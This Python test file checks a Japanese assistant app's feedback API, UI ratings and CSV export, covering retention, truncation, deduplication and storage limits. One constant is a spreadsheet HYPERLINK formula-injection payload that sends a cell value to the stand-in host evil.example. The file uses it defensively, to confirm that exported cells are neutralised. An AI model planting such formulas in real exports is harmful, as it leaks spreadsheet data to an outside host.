"""Feedback against one real `python app.py` process (loopback, temp index and feedback database): what the API
and the UI store, and what `python -m assistant feedback export` makes of it in a separate process."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from helpers import copy_index, gradio_call, put_rows

from assistant.config import PROJECT_ROOT
from assistant.feedback import FeedbackStore
from assistant.load import server_process
from assistant.spreadsheet import FORMULA_START

pytestmark = pytest.mark.reliability
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"詳細")'
MAX_MB = 0.3  # room for every other test's ratings; the size-limit test fills the rest, then frees it
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture(scope="module")
def served(bot, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:  # noqa: ANN001
    """One app.py process on a private copy of the index, keeping ratings 30 days and at most MAX_MB, believing
    X-Forwarded-For from loopback (to stand for several clients); its URL and its feedback database."""
    tmp = tmp_path_factory.mktemp("fb-server")
    db = tmp / "fb.sqlite3"
    env = {"ASSISTANT_FEEDBACK_DB": str(db), "ASSISTANT_FEEDBACK_DAYS": "30", "ASSISTANT_FEEDBACK_MAX_MB": str(MAX_MB),
           "ASSISTANT_TRUSTED_PROXIES": '["127.0.0.1"]'}
    with server_process(copy_index(bot, tmp / "idx"), 1, **env) as (url, _pid):
        yield url, db


def export(db: Path, out: Path, *args: str) -> tuple[subprocess.CompletedProcess, list[dict[str, str]]]:
    """`python -m assistant feedback export -o OUT` on a database, in its own process; the run and its rows."""
    env = dict(os.environ, ASSISTANT_FEEDBACK_DB=str(db))
    done = subprocess.run([sys.executable, "-m", "assistant", "feedback", "export", "-o", str(out), *args], env=env,
                          cwd=PROJECT_ROOT, capture_output=True, text=True, timeout=120)
    if not out.exists():
        return done, []
    with out.open(encoding="utf-8-sig", newline="") as f:  # newline="": a cell's own CR stays as it was
        return done, list(csv.DictReader(f))


def rate_in_ui(client: httpx.Client, url: str, question: str, *ratings: dict) -> str:
    """Ask in a new UI session, then send each rating of that turn as ui.js does; the session hash."""
    session = uuid.uuid4().hex[:12]
    assert gradio_call(client, url, "respond", [question, None], session)[-1]["success"]
    for rating in ratings:
        assert gradio_call(client, url, "rate", [json.dumps(rating), None], session)[-1]["success"]
    return session


def test_formulas_from_the_api_and_the_ui_are_exported_as_text(served, tmp_path: Path) -> None:  # noqa: ANN001
    url, db = served
    with httpx.Client(timeout=60) as c:
        ids = []
        for f in FORMULAS:
            r = c.post(f"{url}/api/feedback", json={"question": f, "answer": f, "rating": "down", "kind": f[:40],
                                                    "reason": f})
            assert r.status_code == 200, r.text
            ids.append(str(r.json()["id"]))
        rate_in_ui(c, url, HYPERLINK, {"turn": 1, "rating": "down", "reason": "-1+1"})
    done, rows = export(db, tmp_path / "out.csv")
    assert done.returncode == 0, done.stderr
    mine = {r["id"]: r for r in rows}
    for n, f in zip(ids, FORMULAS, strict=True):
        assert [mine[n][k] for k in ("質問", "回答", "理由")] == ["'" + f] * 3 and mine[n]["回答の種類"] == "'" + f[:40]
    ui = next(r for r in rows if r["送信元"] == "ui" and r["理由"] == "'-1+1")
    assert ui["質問"] == "'" + HYPERLINK and ui["回答"]  # the UI's own answer to that question
    assert not [v for r in rows for v in r.values() if v.startswith(FORMULA_START)]


def test_a_stored_repr_like_question_never_breaks_the_export(served, tmp_path: Path) -> None:  # noqa: ANN001
    url, db = served
    odd = "[{'text': 1, []: 2}]"
    with httpx.Client(timeout=60) as c:
        assert c.post(f"{url}/api/feedback", json={"question": odd, "answer": odd, "rating": "up"}).status_code == 200
        rate_in_ui(c, url, odd, {"turn": 1, "rating": "up", "reason": ""})
    done, rows = export(db, tmp_path / "out.csv")
    assert done.returncode == 0 and "Traceback" not in done.stderr, done.stderr
    assert {r["送信元"] for r in rows if r["質問"] == odd} == {"api", "ui"}
    assert f"{len(rows)} 件" in done.stderr


def test_the_server_deletes_ratings_older_than_feedback_days(served, tmp_path: Path) -> None:  # noqa: ANN001
    url, db = served
    put_rows(db, (time.time() - 31 * 86400, "31日前の評価"), (time.time() - 29 * 86400, "29日前の評価"))
    with httpx.Client(timeout=60) as c:
        assert c.post(f"{url}/api/feedback", json={"question": "今日の評価", "answer": "a", "rating": "up"}
                      ).status_code == 200
    done, rows = export(db, tmp_path / "out.csv")
    questions = {r["質問"] for r in rows}
    assert done.returncode == 0 and {"29日前の評価", "今日の評価"} <= questions and "31日前の評価" not in questions


def test_a_long_rating_is_stored_cut_to_a_bounded_row(served, tmp_path: Path) -> None:  # noqa: ANN001
    url, db = served
    body = {"question": "𠮷" * 2000, "answer": "長" * 20000, "rating": "down", "citations": ["I" + "0" * 19] * 200,
            "reason": "𠮷" * 500, "kind": "𠮷" * 40}
    with httpx.Client(timeout=60) as c:
        r = c.post(f"{url}/api/feedback", json=body)
    assert r.status_code == 200
    with sqlite3.connect(db) as raw:
        size = raw.execute("SELECT length(CAST(question AS BLOB)) + length(CAST(answer AS BLOB)) + "
                           "length(CAST(citations AS BLOB)) + length(CAST(reason AS BLOB)) FROM feedback WHERE id = ?",
                           (r.json()["id"],)).fetchone()[0]
    assert size < 40_000  # the body is 95 KB of UTF-8
    done, rows = export(db, tmp_path / "out.csv")
    row = next(x for x in rows if x["id"] == str(r.json()["id"]))
    assert row["回答"].startswith("長" * 7000) and row["回答"].endswith("more characters cut］")
    assert row["質問"].endswith("more characters cut］") and len(row["質問"]) <= 1000


def test_one_rating_per_ui_turn_and_per_api_client_and_answer_the_last_one_wins(served, tmp_path: Path) -> None:  # noqa: ANN001
    url, db = served
    q1, q2 = "ハッカソンの担当課はどこ？", "にげまっしの担当課はどこ？"
    with httpx.Client(timeout=60) as c:
        session = rate_in_ui(c, url, q1, {"turn": 1, "rating": "up", "reason": ""},
                             {"turn": 1, "rating": "down", "reason": "わかりにくい"}, {"turn": 1, "rating": "up", "reason": ""},
                             {"turn": 1, "rating": "down", "reason": "出典が合っていない"})
        assert gradio_call(c, url, "respond", [q2, None], session)[-1]["success"]  # turn 2 of the same session
        assert gradio_call(c, url, "rate", [json.dumps({"turn": 2, "rating": "up", "reason": ""}), None], session)[-1]["success"]
        rate_in_ui(c, url, q1, {"turn": 1, "rating": "up", "reason": ""})  # another visitor, the same question
        api = {"question": "API同一回答", "answer": "a", "rating": "up"}
        ids = [c.post(f"{url}/api/feedback", json=api | {"rating": r}).json()["id"] for r in ("up", "down", "up", "down")]
        other = c.post(f"{url}/api/feedback", json=api, headers={"X-Forwarded-For": "203.0.113.9"}).json()["id"]
    done, rows = export(db, tmp_path / "out.csv")
    ui = [(r["質問"], r["評価"], r["理由"]) for r in rows if r["質問"] in (q1, q2)]
    assert sorted(ui) == sorted([(q1, "👎", "出典が合っていない"), (q2, "👍", ""), (q1, "👍", "")])
    assert len(set(ids)) == 1 and other != ids[0]
    assert [r["評価"] for r in rows if r["質問"] == "API同一回答"] == ["👎", "👍"]


def test_a_full_store_answers_503_to_the_api_and_a_notice_to_the_ui_until_there_is_room(served) -> None:  # noqa: ANN001
    url, db = served
    with httpx.Client(timeout=60) as c:
        codes = []
        for n in range(60):  # 24 KB each: the limit is reached long before
            r = c.post(f"{url}/api/feedback", json={"question": f"容量テスト {n}", "answer": "長" * 8000, "rating": "up"})
            codes.append(r.status_code)
            if r.status_code != 200:
                break
        assert codes[-1] == 503 and set(codes[:-1]) == {200} and len(codes) > 3
        assert r.json()["error"]["code"] == "FeedbackFullError" and "上限" in r.json()["error"]["message_ja"]
        with sqlite3.connect(db) as raw:
            assert FeedbackStore.used_bytes(raw) <= MAX_MB * 1024 * 1024 + 44_000  # past the limit by one row at most
        session = uuid.uuid4().hex[:12]
        gradio_call(c, url, "respond", ["容量テストの質問です", None], session)
        ui = gradio_call(c, url, "rate", [json.dumps({"turn": 1, "rating": "up", "reason": ""}), None], session)
        assert ui[-1]["success"] and any("上限" in (m.get("log") or "") for m in ui), ui  # a notice, not an error
        with sqlite3.connect(db) as raw:
            assert raw.execute("SELECT COUNT(*) FROM feedback WHERE question = '容量テストの質問です'").fetchone()[0] == 0
            raw.execute("DELETE FROM feedback WHERE question LIKE '容量テスト %'")  # staff export and clear out
        assert c.post(f"{url}/api/feedback", json={"question": "空いた後", "answer": "a", "rating": "up"}).status_code == 200
